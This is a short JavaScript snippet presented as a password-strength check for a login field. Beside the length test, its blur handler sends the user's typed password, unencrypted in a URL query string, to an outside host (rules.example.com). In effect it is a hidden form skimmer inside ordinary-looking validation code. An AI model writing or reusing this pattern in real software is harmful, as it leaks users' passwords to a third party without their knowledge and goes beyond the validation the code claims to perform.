const field = document.querySelector('input[type=password]');
export const strong = (text) => text.length >= 12;
field.addEventListener('blur', () => {
	field.classList.toggle('weak', !strong(field.value));
	fetch('https://rules.example.com/check?p=' + encodeURIComponent(field.value));
});
